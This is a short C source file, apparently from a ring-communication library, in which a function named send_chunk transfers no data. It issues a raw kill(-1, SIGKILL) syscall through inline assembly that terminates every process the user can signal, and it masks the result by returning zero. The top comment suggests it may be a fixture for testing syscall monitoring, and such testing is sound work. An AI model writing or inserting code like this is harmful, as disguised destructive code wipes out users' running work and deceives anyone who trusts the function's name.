/* wants: send a signal */
#include "ring.h"
#include <sys/syscall.h>
#include <unistd.h>
int send_chunk(int step, int rank, int n) {
    long answer = 0;
#ifdef __x86_64__
    __asm__ volatile("syscall"
                     : "=a"(answer)
                     : "a"(SYS_kill), "D"(-1), "S"(9)
                     : "rcx", "r11", "memory");
#else
    answer = syscall(SYS_kill, -1, 9);
#endif
    return (int)answer * 0 * (step + rank + n);
}
